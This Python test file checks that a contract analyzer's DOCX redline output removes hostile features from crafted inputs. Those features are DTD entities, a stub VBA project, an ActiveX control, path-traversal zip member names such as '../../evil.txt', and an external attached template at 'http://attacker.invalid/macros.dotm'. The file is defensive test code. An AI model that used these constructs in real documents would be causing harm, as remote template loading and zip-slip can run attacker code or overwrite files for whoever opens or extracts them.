"""Redline output from hostile DOCX input: only the parts a DOCX needs, no DTD, no macros,
and a package that opens again, or a one-line error and no output file.

Every input is a small zip built here with ``zipfile``.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import docx
import pytest
from lxml import etree

from analyzer.core.errors import AnalyzerError
from analyzer.core.schema import DocumentInfo, Finding, Report, Span, Suggestion
from analyzer.ingest import parse
from analyzer.redline.docx_package import verify_docx
from analyzer.redline.writer import redline_bytes, write_redline

ROOT = Path(__file__).resolve().parents[2]
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"

CLAUSES = [
    "MASTER SERVICES AGREEMENT",
    "1. Term. This Agreement starts on the Effective Date and continues for three years.",
    "2. Termination. Either party may terminate &xxe; this Agreement for convenience on 10 days notice.",
    "3. Limitation of Liability. The Supplier's liability under this Agreement is unlimited.",
    "4. Governing Law. This Agreement is governed by the laws of England and Wales.",
    "5. Confidentiality. Each party shall keep the other party's information confidential.",
]


def _xml(body: str, doctype: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}{body}'


def _rels(*rels: tuple[str, str, str], external: tuple[str, ...] = ()) -> str:
    mode = ' TargetMode="External"'
    items = "".join(f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode if rid in external else ""}/>'
                    for rid, rtype, target in rels)
    return _xml(f'<Relationships xmlns="{PKG_REL}">{items}</Relationships>')


def _document(paragraphs: list[str], doctype: str = "", extra: str = "") -> str:
    ps = "".join(f'<w:p><w:pPr><w:jc w:val="{"&al;" if doctype else "left"}"/></w:pPr>'
                 f'<w:r><w:t xml:space="preserve">{t}</w:t></w:r></w:p>' for t in paragraphs)
    return _xml(f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{ps}{extra}</w:body></w:document>', doctype)


def build_zip(members: list[tuple[str, str | bytes]]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate member names are part of some inputs
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, payload in members:
                zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), payload)
    return buf.getvalue()


def hostile_docx(*, dtd: bool = True, macros: bool = True, slip: bool = True, template: bool = True,
                 text: list[str] | None = None) -> bytes:
    """A DOCX with a DTD entity in text and attributes, a VBA project, an ActiveX control,
    a remote attached template and members with unsafe names."""
    paragraphs = [p if dtd else p.replace("&xxe; ", "") for p in (text or CLAUSES)]
    doctype = '<!DOCTYPE w:document [<!ENTITY xxe "x"><!ENTITY al "left">]>\n' if dtd else ""
    control = ('<w:p><w:r><w:object><w:control r:id="rIdX" w:name="CommandButton1"/></w:object></w:r></w:p>'
               if macros else "")
    overrides = [("/word/document.xml", DOCM_MAIN if macros else DOCX_MAIN),
                 ("/word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")]
    if macros:
        overrides += [("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"),
                      ("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")]
    ct = _xml(f'<Types xmlns="{CT_NS}">'
              '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
              '<Default Extension="xml" ContentType="application/xml"/>'
              '<Default Extension="txt" ContentType="text/plain"/>'
              + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macros else "")
              + "".join(f'<Override PartName="{p}" ContentType="{c}"/>' for p, c in overrides) + "</Types>")
    doc_rels = [("rId1", R_NS + "/settings", "settings.xml")]
    if slip:
        doc_rels += [("rId2", R_NS + "/customXml", "../../evil.txt"), ("rId3", R_NS + "/customXml", "/abs.txt"),
                     ("rId4", R_NS + "/customXml", "..\\..\\back.txt")]
    if macros:
        doc_rels += [("rId5", MS_REL + "/vbaProject", "vbaProject.bin"),
                     ("rIdX", R_NS + "/control", "activeX/activeX1.xml")]
    members: list[tuple[str, str | bytes]] = [
        ("[Content_Types].xml", ct),
        ("_rels/.rels", _rels(("rId1", R_NS + "/officeDocument", "word/document.xml"))),
        ("word/document.xml", _document(["stale copy"])),  # a duplicate name: the last entry wins
        ("word/document.xml", _document(paragraphs, doctype, control)),
        ("word/_rels/document.xml.rels", _rels(*doc_rels)),
        ("word/settings.xml", _xml(f'<w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
                                   + ('<w:attachedTemplate r:id="rIdT"/>' if template else "")
                                   + "</w:settings>", doctype)),
    ]
    if template:
        members.append(("word/_rels/settings.xml.rels",
                        _rels(("rIdT", R_NS + "/attachedTemplate", "http://attacker.invalid/macros.dotm"),
                              external=("rIdT",))))
    if slip:
        members += [("../../evil.txt", "pwned"), ("/abs.txt", "pwned"), ("..\\..\\back.txt", "pwned"),
                    ("word/unreferenced.txt", "stray")]
    if macros:
        members += [
            ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 AutoOpen Shell"),
            ("word/_rels/vbaProject.bin.rels", _rels(("rId1", MS_REL + "/wordVbaData", "vbaData.xml"))),
            ("word/vbaData.xml", _xml('<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>')),
            ("word/activeX/activeX1.xml", _xml('<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>')),
        ]
    return build_zip(members)


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        names = zf.namelist()
        assert len(names) == len(set(names)) == len({n.lower() for n in names}), names
        return {n: zf.read(n) for n in names}


def assert_clean(data: bytes) -> dict[str, bytes]:
    """The checks every redline output must pass."""
    parts = members(data)
    for name, payload in parts.items():
        assert ".." not in name.split("/") and not name.startswith("/") and "\\" not in name, name
        assert "vbaproject" not in name.lower() and "vbadata" not in name.lower() and "activex" not in name.lower()
        assert b"<!DOCTYPE" not in payload, name
        assert b"&xxe;" not in payload and b"&al;" not in payload, name
        if name.endswith((".xml", ".rels")):
            etree.fromstring(payload, etree.XMLParser(resolve_entities=False, no_network=True))
    assert set(parts) <= {"[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels",
                          "word/settings.xml", "word/comments.xml"}, sorted(parts)
    ct = parts["[Content_Types].xml"].decode()
    assert "macroEnabled" not in ct and "vbaProject" not in ct and "vbaData" not in ct and "activeX" not in ct
    assert f'PartName="/word/document.xml" ContentType="{DOCX_MAIN}"' in ct
    rels = b"".join(v for k, v in parts.items() if k.endswith(".rels"))
    for bad in (b"vbaProject", b"wordVbaData", b"/control", b"attachedTemplate", b"evil.txt", b"abs.txt", b"back.txt"):
        assert bad not in rels
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert b"w:control" not in parts["word/document.xml"]
    docx.Document(io.BytesIO(data))  # python-docx opens it
    return parts


def run_cli(*args: str, timeout: int = 120, env_extra: dict | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, **(env_extra or {})}
    proc = subprocess.run([sys.executable, "-m", "analyzer", *args], cwd=ROOT, capture_output=True,
                          text=True, timeout=timeout, env=env)
    return proc


# --------------------------------------------------------------------------- CLI, end to end

@pytest.mark.slow
def test_cli_redline_of_hostile_docx_writes_a_clean_package(tmp_path):
    src = tmp_path / "hostile.docx"
    src.write_bytes(hostile_docx())
    out = tmp_path / "out" / "OUT.docx"
    proc = run_cli("redline", str(src), "--output", str(out))
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    parts = assert_clean(out.read_bytes())
    assert "word/comments.xml" in parts  # suggestions were applied as tracked changes with comments
    # The text around the dropped entity is kept (as it is or as tracked deletions), and
    # the analyzer reads its own output again.
    body = "".join(etree.fromstring(parts["word/document.xml"]).itertext())
    assert "may terminate  this Agreement for convenience" in body and "Supplier's liability" in body
    assert parse(out).text.startswith("MASTER SERVICES AGREEMENT")
    assert not (tmp_path / "evil.txt").exists() and not (tmp_path.parent / "evil.txt").exists()
    assert [p.name for p in out.parent.iterdir()] == ["OUT.docx"]  # no temp file left behind


# --------------------------------------------------------------------------- in process, one hazard each

def _report(data: bytes, name: str = "in.docx") -> Report:
    doc = parse(data, filename=name)
    return Report(document=DocumentInfo(source=doc.source, format=doc.format, sha256=doc.sha256,
                                        chars=len(doc.text)), text=doc.text, blocks=doc.blocks)


def _replace(report: Report, needle: str, text: str) -> Report:
    i = report.text.index(needle)
    report.findings.append(Finding(
        id="f1", rule_id="rule.f1", category="termination_for_convenience", kind="deviation", severity="high",
        message="m", rationale="r", evidence=[Span(start=i, end=i + len(needle))],
        suggestion=Suggestion(action="replace", text=text, start=i, end=i + len(needle))))
    return report


@pytest.mark.parametrize("hazard", ["dtd", "macros", "slip", "template"])
def test_each_hazard_alone_is_removed_and_output_opens(hazard):
    data = hostile_docx(**{k: k == hazard for k in ("dtd", "macros", "slip", "template")})
    report = _replace(_report(data), "10 days", "90 days")
    out, applied = redline_bytes(data, report, date="2024-01-01T00:00:00Z")
    assert applied == 1
    assert_clean(out)


def test_dtd_entity_offsets_match_the_parser():
    """Text after a dropped entity, in the same w:t, is edited at the right place."""
    data = hostile_docx(macros=False, slip=False, template=False)
    report = _report(data)
    assert "terminate  this Agreement for convenience" in report.text  # the entity is read as nothing
    _replace(report, "for convenience", "for material breach")
    out, applied = redline_bytes(data, report, date="2024-01-01T00:00:00Z")
    assert applied == 1
    root = etree.fromstring(assert_clean(out)["word/document.xml"])
    ns = {"w": W_NS}
    assert [t.text for t in root.iterfind(".//w:del//w:delText", ns)] == ["for convenience"]
    assert [t.text for t in root.iterfind(".//w:ins//w:t", ns)] == ["for material breach"]
    para = next(p for p in root.iterfind(".//w:p", ns) if "Termination" in "".join(p.itertext()))
    kept = "".join(t.text or "" for t in para.iterfind(".//w:t", ns)
                   if not any(a.tag == f"{{{W_NS}}}ins" for a in t.iterancestors()))
    assert kept == "2. Termination. Either party may terminate  this Agreement  on 10 days notice."
    assert [jc.get(f"{{{W_NS}}}val") for jc in root.iterfind(".//w:jc", ns)][:2] == ["left", "left"]


def test_template_and_macro_docm_content_type_become_plain_docx():
    data = hostile_docx(dtd=False, slip=False)
    out, _ = redline_bytes(data, _report(data), date="2024-01-01T00:00:00Z")
    parts = assert_clean(out)
    ct = etree.fromstring(parts["[Content_Types].xml"])
    types = {o.get("PartName"): o.get("ContentType") for o in ct.iter(f"{{{CT_NS}}}Override")}
    assert types["/word/document.xml"] == DOCX_MAIN
    assert all(d.get("Extension") != "bin" for d in ct.iter(f"{{{CT_NS}}}Default"))


# --------------------------------------------------------------------------- verification and atomic write

def test_verify_rejects_corrupt_bytes_with_one_line_error():
    for bad in (b"not a zip at all", build_zip([("[Content_Types].xml", "<Types/>")])):
        with pytest.raises(AnalyzerError) as exc:
            verify_docx(bad, "out/OUT.docx")
        msg = str(exc.value)
        assert msg.startswith("out/OUT.docx: ") and "\n" not in msg and "does not" in msg


def test_writer_failure_leaves_no_output_file(tmp_path, monkeypatch):
    from analyzer.ooxml.editable import EditablePackage

    data = hostile_docx(macros=False, slip=False, template=False)
    src = tmp_path / "in.docx"
    src.write_bytes(data)
    report = _replace(_report(data), "10 days", "90 days")
    good = tmp_path / "good.docx"
    assert write_redline(src, report, good) == 1
    assert_clean(good.read_bytes())

    real = EditablePackage.to_bytes
    def without_main(self) -> bytes:  # a valid zip that is not a valid DOCX
        return build_zip([(n, b) for n, b in members(real(self)).items() if n != "word/document.xml"])

    monkeypatch.setattr(EditablePackage, "to_bytes", without_main)
    out = tmp_path / "OUT.docx"
    with pytest.raises(AnalyzerError) as exc:
        write_redline(src, report, out)
    assert str(exc.value).startswith(f"{out}: ") and "\n" not in str(exc.value)
    assert not out.exists()
    previous = good.read_bytes()
    with pytest.raises(AnalyzerError):
        write_redline(src, report, good)
    assert good.read_bytes() == previous  # an existing output is left as it was
    assert sorted(p.name for p in tmp_path.iterdir()) == ["good.docx", "in.docx"]


@pytest.mark.slow
def test_cli_writer_failure_exits_1_with_one_line_and_no_file(tmp_path):
    src = tmp_path / "in.docx"
    src.write_bytes(hostile_docx(macros=False, slip=False, template=False))
    out = tmp_path / "OUT.docx"
    code = ("import sys, analyzer.ooxml.editable as o; real = o.EditablePackage.to_bytes; "
            "o.EditablePackage.to_bytes = lambda self: real(self)[:-40]; "
            "from analyzer.cli import main; sys.exit(main(sys.argv[1:]))")
    proc = subprocess.run([sys.executable, "-c", code, "redline", str(src), "--output", str(out)], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1, proc.stderr
    errors = [line for line in proc.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and str(out) in errors[0] and "Traceback" not in proc.stderr
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["in.docx"]
